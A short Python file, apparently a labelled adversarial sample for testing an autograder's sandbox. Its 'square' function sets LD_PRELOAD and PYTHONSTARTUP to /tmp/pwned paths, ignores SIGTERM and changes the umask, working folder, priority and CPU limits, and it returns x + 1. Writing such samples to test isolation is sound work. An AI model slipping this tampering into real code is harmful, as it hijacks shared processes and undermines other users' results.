"""Environment, working folder, umask, priorities and error modes, changed.

Gains: other students' marks
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: failed
"""

import os
import resource
import signal
import sys

import numpy as np


def square(x):
    os.environ.update(OPENBLAS_NUM_THREADS="64", PYTHONSTARTUP="/tmp/pwned", LD_PRELOAD="/tmp/pwned.so")
    np.seterr(all="raise")
    sys.setrecursionlimit(50)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for way in (
        lambda: os.chdir("/"),
        lambda: os.umask(0o777),
        lambda: os.nice(19),
        lambda: resource.setrlimit(resource.RLIMIT_CPU, (1, 1)),
    ):
        try:
            way()
        except (OSError, ValueError) as error:
            print("refused:", type(error).__name__)
    return x + 1
